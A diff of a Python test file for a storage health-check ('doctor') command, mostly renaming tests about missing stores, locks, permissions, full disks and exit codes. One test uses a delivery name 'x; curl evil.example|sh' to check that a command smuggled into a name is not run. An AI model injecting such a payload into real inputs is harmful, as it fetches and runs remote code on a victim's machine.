@@ -76,14 +76,14 @@ def small_store(tmp_path_factory):
     return folder / "store"
 
 
-def test_all_is_well(store):
+def test_a_healthy_store_has_no_problems(store):
     document = doctor(store, code=0)
     found = {finding["subject"] for finding in document["findings"]}
     assert found >= {"folder", "disk", "store", "schema", "content", "privacy", "zones", "changes", "port", "key", "deliveries", "uploads"}
     assert document["devices"] == [] and document["metrics"] == []
 
 
-def test_a_store_that_is_missing_is_a_finding_and_is_not_made(tmp_path):
+def test_a_missing_store_is_a_finding_and_is_not_created(tmp_path):
     document = doctor(tmp_path / "none", code=3)
     assert wrong(document, "folder") and not (tmp_path / "none").exists()
     (tmp_path / "empty").mkdir(mode=0o700)
@@ -99,7 +99,7 @@ def test_a_store_that_is_missing_is_a_finding_and_is_not_made(tmp_path):
     ("DELETE FROM grdb_migrations WHERE identifier LIKE '24 %'; PRAGMA user_version = 23", "schema", "this program writes"),
     ("PRAGMA application_id = 7", "store", "is not a store of dailve"),
 ], ids=["newer", "older", "foreign"])
-def test_a_store_of_another_version_is_a_finding_and_stays_one(store, change, subject, words):
+def test_a_store_of_another_version_is_a_finding(store, change, subject, words):
     with sqlite3.connect(store / "health.sqlite") as database:
         database.executescript(change)
     database.close()
@@ -129,7 +129,7 @@ sys.stdin.read()
 """
 
 
-def test_a_store_that_another_program_has_for_itself_is_a_finding(store):
+def test_a_store_locked_by_another_program_is_a_finding(store):
     # Another process holds the file, because reading it in this one would release its locks.
     holder = subprocess.Popen(
         [sys.executable, "-c", HOLD, store / "health.sqlite"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
@@ -140,12 +140,12 @@ def test_a_store_that_another_program_has_for_itself_is_a_finding(store):
         holder.communicate("")
 
 
-def test_files_that_others_can_read_are_a_finding(store):
+def test_files_readable_by_others_are_a_finding(store):
     (store / "health.sqlite").chmod(0o644)
     assert "health.sqlite" in wrong(doctor(store, code=3), "privacy")[0]["text"]
 
 
-def test_a_disk_that_is_full_is_a_finding(small_store, tmp_path):
+def test_a_full_disk_is_a_finding(small_store, tmp_path):
     disk = tmp_path / "disk"
     disk.mkdir()
     if subprocess.run(["mount", "-t", "tmpfs", "-o", "size=30m,mode=700", "none", disk], capture_output=True).returncode:
@@ -163,7 +163,7 @@ def test_a_disk_that_is_full_is_a_finding(small_store, tmp_path):
         subprocess.run(["umount", disk], check=True)
 
 
-def test_what_is_left_and_what_cannot_be_read_is_named(store):
+def test_left_over_and_unreadable_files_are_named(store):
     for name in ("uploads", "deliveries"):
         (store / name).mkdir(mode=0o700)
     (store / "uploads" / "upload-1").write_bytes(b"0" * 1000)
@@ -179,7 +179,7 @@ def test_what_is_left_and_what_cannot_be_read_is_named(store):
     assert "00000001.0" in damaged["text"]
 
 
-def test_a_delivery_that_could_not_be_read_is_named(store):
+def test_an_unreadable_delivery_is_named(store):
     with sqlite3.connect(store / "health.sqlite") as database:
         database.execute(
             "INSERT INTO delivery (id, received, token, headers, size, packed, fingerprint, batch, version, unknown, problem) VALUES "
@@ -190,7 +190,7 @@ def test_a_delivery_that_could_not_be_read_is_named(store):
     assert "20261101T080000.000Z-00000001" in found[0]["text"] and "replay" in found[0]["advice"]
 
 
-def test_a_command_that_names_a_delivery_is_one_command(store):
+def test_the_name_of_a_delivery_injects_no_command(store):
     """Another machine chose the name of the delivery, so it must not run commands of its own."""
     name = "x; curl evil.example|sh"
     with sqlite3.connect(store / "health.sqlite") as database:
@@ -267,6 +267,6 @@ def test_ports(store, tmp_path):
         server.stop()
 
 
-def test_wrong_use_is_2(store):
+def test_wrong_usage_exits_with_2(store):
     for words in (["--port", "0"], ["--host", "0.0.0.0"], ["--ingest-listen", "nowhere"]):
         assert subprocess.run([DAILVE, "doctor", "--store", store, *words], capture_output=True).returncode == 2
